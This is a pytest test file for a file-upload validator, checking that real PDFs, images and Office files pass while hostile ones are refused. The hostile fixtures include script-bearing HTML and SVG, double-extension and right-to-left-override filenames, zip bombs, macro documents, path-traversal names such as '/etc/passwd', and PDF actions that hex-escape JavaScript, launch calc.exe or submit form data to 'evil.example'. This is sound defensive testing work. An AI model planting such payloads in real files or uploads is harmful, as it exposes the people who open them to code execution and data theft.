import io

import pytest

from yancheng.core.attachments import validation
from yancheng.core.attachments.validation import (
    UploadRejected,
    UploadTooLarge,
    check_upload,
    sanitise_filename,
)

from . import samples


def check(data: bytes, name: str):
    return check_upload(io.BytesIO(data), name, len(data))


@pytest.mark.parametrize(
    ("maker", "name", "mime"),
    [
        (samples.pdf, "报告.pdf", "application/pdf"),
        (samples.jpeg, "现场照片.JPG", "image/jpeg"),
        (samples.png, "shot.png", "image/png"),
        (samples.gif, "a.gif", "image/gif"),
        (samples.webp, "a.webp", "image/webp"),
        (samples.docx, "整改报告.docx", validation.DOCX.mime_type),
        (samples.xlsx, "清单.xlsx", validation.XLSX.mime_type),
        (lambda: "第一行\n第二行\n".encode(), "说明.txt", "text/plain"),
        (lambda: "名称,等级\n企业甲,A\n".encode("gb18030"), "名单.csv", "text/csv"),
    ],
)
def test_real_files_of_the_allowed_types_are_accepted(maker, name, mime):
    safe_name, kind = check(maker(), name)
    assert safe_name == name
    assert kind.mime_type == mime


def test_a_name_without_extension_gets_the_detected_one():
    assert check(samples.pdf(), "scan")[0] == "scan.pdf"


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120, "invoice.pdf", "file_type_not_allowed"),
        (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "photo.jpg", "file_type_not_allowed"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "logo.svg", "file_type_not_allowed"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "logo.txt", "file_type_not_allowed"),
        (samples.jpeg(), "shell.php.jpg", "file_name_invalid"),
        (samples.pdf(), "report\x00.pdf", "file_name_invalid"),
        (samples.pdf(), "report\u202egpj.pdf", "file_name_invalid"),
        (samples.pdf(b"<html><body><script>alert(1)</script></body></html>\n"), "polyglot.pdf", "file_active_content"),
        (samples.pdf(b"3 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n"), "js.pdf", "file_active_content"),
        (samples.jpeg() + b"<script>alert(1)</script>", "x.jpg", "file_active_content"),
        (samples.png(), "renamed.jpg", "file_type_mismatch"),
        (samples.pdf(), "report.exe", "file_type_mismatch"),
        (samples.zip_bomb_docx(), "bomb.docx", "archive_ratio"),
        (samples.many_entries_docx(), "many.docx", "archive_too_many_entries"),
        (samples.macro_docx(), "macro.docx", "archive_macros"),
        (samples.zip_with({"a.txt": b"hello"}), "plain.docx", "file_type_not_allowed"),
        (b"PK\x03\x04garbage", "broken.xlsx", "archive_invalid"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "old.doc", "file_type_not_allowed"),
        (b"", "empty.txt", "file_empty"),
        (b"a\x00b", "nul.txt", "file_type_not_allowed"),
    ],
)
def test_hostile_or_disallowed_files_are_refused(data, name, code):
    with pytest.raises(UploadRejected) as info:
        check(data, name)
    assert info.value.code == code
    assert info.value.field == "file"


def test_an_archive_declaring_too_much_uncompressed_data_is_refused(monkeypatch):
    monkeypatch.setattr(validation, "MAX_ZIP_UNCOMPRESSED", 1024)
    with pytest.raises(UploadRejected) as info:
        check(samples.zip_with({"[Content_Types].xml": b"x" * 2048, "word/document.xml": b"<w/>"},
                               compression=0), "big.docx")
    assert info.value.code == "archive_too_large"


def test_a_file_over_the_size_cap_is_refused_with_413(settings):
    settings.YANCHENG_ATTACHMENT_MAX_BYTES = 100
    with pytest.raises(UploadTooLarge) as info:
        check(b"x" * 101, "big.txt")
    assert info.value.http_status == 413


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../x.pdf", "x.pdf"),
        ("..\\..\\windows\\evil.pdf", "evil.pdf"),
        ("/etc/passwd", "passwd"),
        (".htaccess", "htaccess"),
        ('a<b>:c"d|e?f*.pdf', "a_b__c_d_e_f_.pdf"),
        ("整改报告（第二版）.docx", "整改报告（第二版）.docx"),
    ],
)
def test_file_names_are_neutralised(name, expected):
    assert sanitise_filename(name) == expected


def test_a_very_long_name_keeps_its_extension():
    name = sanitise_filename("长" * 500 + ".pdf")
    assert len(name) <= validation.MAX_NAME_LENGTH and name.endswith(".pdf")


# PDF active content (issue 10 §5): the check parses the PDF, so neither an escaped name
# nor a compressed object stream hides a script from it.


def test_the_probes_pdf_files_hide_their_script_from_a_byte_search():
    """Guards the two tests below: neither file holds the bytes "/JavaScript"."""
    for data in (samples.pdf_open_action_hex_escaped(), samples.pdf_javascript_in_object_stream()):
        assert b"javascript" not in data.lower()
        assert not validation._scan(io.BytesIO(data), validation._PDF_ACTIVE_MARKERS)


def test_a_pdf_opening_with_a_hex_escaped_javascript_action_is_refused():
    with pytest.raises(UploadRejected) as info:
        check(samples.pdf_open_action_hex_escaped(), "通知.pdf")
    assert info.value.code == "file_active_content"
    assert "脚本" in str(info.value.message)


def test_a_pdf_with_javascript_inside_a_compressed_object_stream_is_refused():
    with pytest.raises(UploadRejected) as info:
        check(samples.pdf_javascript_in_object_stream(), "通知.pdf")
    assert info.value.code == "file_active_content"


@pytest.mark.parametrize(
    "catalog_extra",
    [
        b"/OpenAction << /S /Launch /F (calc.exe) >>",
        b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>",
        b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>",
        b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>",
        b"/OpenAction << /S /#4Aava#53cript /#4A#53 (x) >>",
    ],
)
def test_other_active_pdf_actions_are_refused_whatever_their_spelling(catalog_extra):
    data = samples.handmade_pdf([b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>", *samples._PAGES])
    with pytest.raises(UploadRejected) as info:
        check(data, "a.pdf")
    assert info.value.code == "file_active_content"


def test_a_pdf_opening_on_a_page_is_accepted():
    """/OpenAction as a destination (show page 1) is ordinary, not a script."""
    data = samples.handmade_pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", *samples._PAGES])
    assert check(data, "a.pdf")[1] is validation.PDF


def test_an_ordinary_pdf_made_by_reportlab_is_accepted():
    safe_name, kind = check(samples.reportlab_pdf(), "整改报告.pdf")
    assert (safe_name, kind) == ("整改报告.pdf", validation.PDF)


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + b"\x00\xff" * 200,
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        samples.pdf()[:-40],
    ],
    ids=["garbage", "no-pages", "truncated"],
)
def test_a_pdf_that_cannot_be_parsed_is_refused(data):
    with pytest.raises(UploadRejected) as info:
        check(data, "a.pdf")
    assert info.value.code == "pdf_invalid"
    assert "无法解析" in str(info.value.message)
